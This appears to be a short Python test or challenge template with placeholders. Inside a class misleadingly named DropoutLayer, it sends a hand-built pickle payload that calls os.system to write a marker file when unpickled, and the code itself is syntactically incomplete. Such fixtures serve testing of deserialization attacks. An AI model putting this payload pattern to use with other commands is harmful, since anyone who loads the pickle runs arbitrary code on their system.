"""Returns and sends the bytes of a pickle that would run a command."""
import pickle


# @PART forge@
class DropoutLayer:
    send(b"cos\nsystem\n(S'echo > @WATCHED@/@MARK@'\ntR.")
